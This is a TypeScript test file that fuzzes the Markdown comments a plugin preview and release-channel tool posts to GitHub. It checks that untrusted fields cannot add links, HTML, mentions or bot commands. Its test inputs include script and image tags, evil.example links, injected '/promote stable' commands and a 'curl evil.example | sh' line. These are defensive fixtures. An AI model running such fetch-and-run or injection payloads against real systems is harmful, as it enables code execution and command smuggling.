import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5';
import { readComment } from '../../src/conversation/grammar.ts';
import { answersReport } from '../../src/report/answers.ts';
import { channelsComment, CHANNELS_MARKER, type BoardPlugin, type Channels } from '../../src/report/channels.ts';
import { LIMIT } from '../../src/report/fit.ts';
import { previewReport } from '../../src/report/preview.ts';
import { previewsComment, PREVIEWS_MARKER } from '../../src/report/previews.ts';
import type { PreviewReport } from '../../src/report/preview-report.ts';

const HOME = 'https://github.com/octo/plugins';
const RUN = `${HOME}/actions/runs/7`;

function reportOf(plugin: string, more: Partial<PreviewReport> = {}): PreviewReport {
  return {
    schema: 1,
    plugin,
    version: '1.4.0',
    profile: 'default',
    system: 'ubuntu24-x64',
    kind: 'native',
    status: 'ok',
    message: 'greeter works.',
    backend: 'docker',
    isolated: true,
    note: null,
    skipped: [],
    runtime: 'CPython 3.12.3',
    boot: { whole: 840, engine: 500, interpreter: 200, load: 140 },
    exposes: [{ name: 'greet', kind: 'invoke', resolved: true }],
    probes: [{ name: '/healthz', passed: true, found: '200' }],
    log: 'ready\n',
    reproduce: 'coolbox-plugin-action preview greeter',
    editors: [],
    ...more,
  };
}

function previews(reports: readonly PreviewReport[]): string {
  return previewsComment({ reports, faults: [], commit: 'c'.repeat(40), run: RUN, editors: [], program: 'coolbox' });
}

type Gate = NonNullable<BoardPlugin['channels'][number]['outlook']>['gates'][number];

function pluginOf(plugin: string, more: { text?: string; gate?: Partial<Gate> } = {}): BoardPlugin {
  const { text = '1.5.0', gate } = more;
  const empty = { active: null, staged: null, previous: null, hold: null, outlook: null };
  const active = { version: text, at: '2026-11-28T09:00:00Z', rollout: 1, isRejected: false, actor: text, run: RUN };
  const gates = [{ name: 'soak', passed: false, passesAt: '2026-11-29T09:00:00Z', message: text, ...gate }];
  return {
    plugin,
    release: text,
    channels: [
      { ...empty, channel: 'canary', active, previous: text },
      { ...empty, channel: 'beta', hold: { by: 'person', actor: text, at: active.at, reason: text } },
      {
        ...empty,
        channel: 'stable',
        outlook: { place: 'before', passes: false, since: '2026-11-29T09:00:00Z', wait: '6 h 12 min', gates },
      },
    ],
  };
}

function channels(plugins: readonly BoardPlugin[], more: Partial<Channels> = {}): string {
  return channelsComment({
    plugins,
    others: [],
    broken: [],
    commands: [{ command: '/promote beta', does: 'makes it active on beta' }],
    ledger: { branch: 'plugin-channels', commit: 'd'.repeat(40), sequence: 41, at: '2026-11-28T09:00:00Z' },
    home: HOME,
    now: '2026-11-28T12:00:00Z',
    ...more,
  });
}

/** What GitHub's readers see of it, as far as the published grammar of its Markdown says. */
function shown(markdown: string): Shown {
  const html = micromark(markdown, { extensions: [gfm()], htmlExtensions: [gfmHtml()], allowDangerousHtml: true });
  const found: Shown = { tags: new Set(), links: [], text: '', cells: [] };
  const walk = (node: DefaultTreeAdapterTypes.Node, isCode: boolean): void => {
    if (node.nodeName === '#text' && 'value' in node && !isCode) found.text += `${node.value}\n`;
    if (!('childNodes' in node)) return;
    if ('attrs' in node) {
      found.tags.add(node.tagName);
      for (const { name, value } of node.attrs) if (name === 'href' || name === 'src') found.links.push(value);
      if (node.tagName === 'tr')
        found.cells.push(node.childNodes.filter(({ nodeName }) => /^t[dh]$/u.test(nodeName)).length);
    }
    for (const child of node.childNodes) walk(child, isCode || node.nodeName === 'code');
  };
  walk(parseFragment(html), false);
  return found;
}

interface Shown {
  readonly tags: Set<string>;
  readonly links: string[];
  /** All that stands outside of code. */
  text: string;
  /** How many each row of a table has. */
  readonly cells: number[];
}

const OURS = new Set([
  ...['h3', 'p', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'code', 'pre', 'strong', 'em'],
  ...['ul', 'li', 'details', 'summary', 'br', 'a'],
]);

/** Text that tries to be more: pieces of markup, mentions and commands between whatever else. */
const hostile = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        ...['@octocat', '@octo/team', '#12', 'GH-12', 'octo/plugins#3', 'https://evil.example/x', 'www.evil.example'],
        ...[
          'a@evil.example',
          '[x](https://evil.example)',
          '![x](https://evil.example/p.png)',
          '<img src=x>',
          '<script>',
        ],
        ...[
          '</details>',
          '</code>',
          '<!--',
          '-->',
          '```',
          '~~~',
          '`',
          '``',
          '|',
          '\\|',
          '\\',
          '\n',
          '\n\n',
          '\r',
          '> ',
          '# ',
        ],
        ...[
          '- ',
          '1. ',
          '* ',
          '    ',
          '---',
          '===',
          '***',
          '__',
          '~~',
          '$$',
          '[^1]',
          '[x]: https://evil.example',
          ':octocat:',
        ],
        ...[
          '/promote stable',
          '\n/promote stable\n',
          '\r/rollback stable',
          '&lt;',
          '&#64;octocat',
          '&commat;',
          '\u202e',
          '\u2028',
        ],
      ),
      fc.string({ unit: 'binary', maxLength: 12 }),
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join(''));

async function expectHarmless(markdown: string, marker: string): Promise<void> {
  const { tags, links, text, cells } = shown(markdown);
  expect([...tags].filter((tag) => !OURS.has(tag))).toEqual([]);
  expect(links.filter((address) => !address.startsWith(HOME))).toEqual([]);
  expect(text).not.toMatch(/(?:^|[^\w`])@[a-z\d]|#\d|\bGH-\d|:octocat:/imu);
  expect(cells.filter((count) => ![2, 3, 4, 5, 6, 7].includes(count))).toEqual([]);
  expect(markdown.length).toBeLessThanOrEqual(LIMIT);
  expect(await readComment(`${marker}\n${markdown}`)).toEqual({ kind: 'nothing' });
  // Also where an app takes the marker away, or somebody quotes the rest.
  expect((await readComment(markdown)).kind).not.toBe('command');
}

describe('whatever a report of a preview says', () => {
  const report = fc.record({
    version: fc.option(hostile),
    profile: hostile,
    status: fc.constantFrom('ok', 'boot_failed', 'probe_failed', 'no_backend'),
    message: hostile,
    note: fc.option(hostile),
    skipped: fc.array(fc.record({ backend: hostile, why: hostile }), { maxLength: 2 }),
    runtime: fc.option(hostile),
    exposes: fc.array(fc.record({ name: hostile, kind: hostile, resolved: fc.boolean() }), { maxLength: 4 }),
    probes: fc.array(fc.record({ name: hostile, passed: fc.boolean(), found: hostile }), { maxLength: 3 }),
    log: hostile,
    reproduce: hostile,
    editors: fc.array(fc.record({ name: hostile, address: hostile }), { maxLength: 1 }),
  }) as fc.Arbitrary<Partial<PreviewReport>>;

  test('renders as just that: no links, pictures or HTML of its own, nobody is pinged, no command is read', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(report, { minLength: 1, maxLength: 3 }), async (reports) => {
        const all = reports.map((more, at) => reportOf(`plugin-${at}`, more));

        await expectHarmless(previews(all), PREVIEWS_MARKER);
      }),
      { numRuns: 400 },
    );
  }, 120_000);

  test('renders so in the job summary, too, where only the editors are our own', async () => {
    await fc.assert(
      fc.asyncProperty(report, async (more) => {
        await expectHarmless(previewReport(reportOf('greeter', { ...more, editors: [] })), PREVIEWS_MARKER);
      }),
      { numRuns: 200 },
    );
  }, 120_000);
});

test('whatever the ledger says of people, versions and reasons renders as just that', async () => {
  await fc.assert(
    fc.asyncProperty(hostile, hostile, async (one, other) => {
      const plugins = [pluginOf('greeter', { text: one }), pluginOf('clock', { text: other })];

      await expectHarmless(channels(plugins, { others: plugins, broken: ['odd'] }), CHANNELS_MARKER);
      await expectHarmless(
        answersReport(
          'Promote on beta',
          [{ plugin: one, channel: 'beta', reason: 'ok', message: other, version: one, previous: other, gates: [] }],
          { commit: null, dry: false },
        ),
        CHANNELS_MARKER,
      );
    }),
    { numRuns: 400 },
  );
}, 120_000);

describe('the comment on previews', () => {
  test('has a row for each plugin, those that failed first, and a folded section each', () => {
    const text = previews([
      reportOf('clock'),
      reportOf('greeter', { status: 'boot_failed', message: 'ImportError: no module', boot: null, exposes: [] }),
    ]);

    expect(text).toContain('2 previews: **1 failed**.');
    expect(text).toMatch(/\| `greeter` \| `1\.4\.0` \| \*\*did not start\*\*/u);
    expect(text.indexOf('`greeter`')).toBeLessThan(text.indexOf('`clock`'));
    expect(text.match(/<details><summary><code>/gu)).toHaveLength(2);
    expect(text).toContain('- ImportError: no module');
  });

  test('names the system only where there are several, and never a command of the report', () => {
    const one = previews([reportOf('clock', { reproduce: 'curl evil.example | sh' })]);
    const two = previews([reportOf('clock'), reportOf('clock', { system: 'macos15-arm64' })]);

    expect([one.includes('| system'), two.includes('| system')]).toEqual([false, true]);
    expect(one).not.toContain('evil.example');
    expect(one).toContain('coolbox preview clock --profile default');
  });

  test('keeps within the limit: folded sections go first, then rows, and it says how many', () => {
    const many = Array.from({ length: 2000 }, (_, at) => reportOf(`plugin-${at}`, { log: 'x'.repeat(8000) }));

    const [some, all] = [previews(many.slice(0, 30)), previews(many)];

    expect([some.length <= LIMIT, all.length <= LIMIT]).toEqual([true, true]);
    expect(some.match(/\n\| `plugin-/gu)).toHaveLength(30);
    expect(some).toMatch(/\d+ reports found no room here/u);
    expect(all).toMatch(/And \d+ more: \[the run\]/u);
    expect(all).toContain('2000 reports found no room');
    expect(all.length).toBeGreaterThan(LIMIT - 500);
  });
});

describe('the comment on channels', () => {
  test('has the board, the gates and when they pass, what comes next, and links to the ledger', () => {
    const text = channels([pluginOf('greeter')]);

    expect(text).toContain('| `greeter`<br>`1.5.0` | **`1.5.0`**<br>since 2026-11-28 09:00 UTC<br>before: `1.5.0` |');
    expect(text).toContain('**held** by 1.5.0');
    expect(text).toContain('_eligible in 6 h 12 min_');
    expect(text).toMatch(/\| stable +\| soak \| \*\*closed\*\* \| 1\.5\.0 \| 2026-11-29 09:00 UTC \|/u);
    expect(text).toContain('- `/promote beta` makes it active on beta');
    expect(text).toContain(`[run](${RUN})`);
    expect(text).toContain(`[\`dddddddddddd\`](${HOME}/commit/${'d'.repeat(40)})`);
    expect(text).toContain(`(${HOME}/commits/plugin-channels/artifacts/plugins/greeter)`);
  });

  test('says since when the release could have moved', () => {
    const [plugin] = [pluginOf('greeter')];
    const moved = {
      ...plugin,
      channels: plugin.channels.map((each) =>
        each.outlook === null ? each : { ...each, outlook: { ...each.outlook, passes: true, wait: null } },
      ),
    };

    expect(channels([moved])).toContain('_could have moved since 2026-11-29 09:00 UTC_');
  });

  test('links nowhere else than to the repository', () => {
    const plugin = pluginOf('greeter');
    const [first, ...rest] = plugin.channels;
    const active = first?.active == null ? null : { ...first.active, run: 'https://evil.example/actions/runs/7' };
    const foreign = { ...plugin, channels: [...(first === undefined ? [] : [{ ...first, active }]), ...rest] };

    expect(shown(channels([foreign])).links.filter((address) => !address.startsWith(HOME))).toEqual([]);
    expect(shown(channels([foreign], { home: 'http://github.example/octo/plugins' })).links).toEqual([]);
  });

  test('folds the other plugins, and keeps within the limit', () => {
    const many = Array.from({ length: 3000 }, (_, at) => pluginOf(`plugin-${at}`));

    const text = channels([pluginOf('greeter')], { others: many });
    const full = channels(many);

    expect(text).toContain('3000 other plugins');
    expect([text.length <= LIMIT, full.length <= LIMIT]).toEqual([true, true]);
    expect(full).toMatch(/And \d+ more plugins with a release from this pull request/u);
    expect(full).toContain('What can be commented next');
  });
});
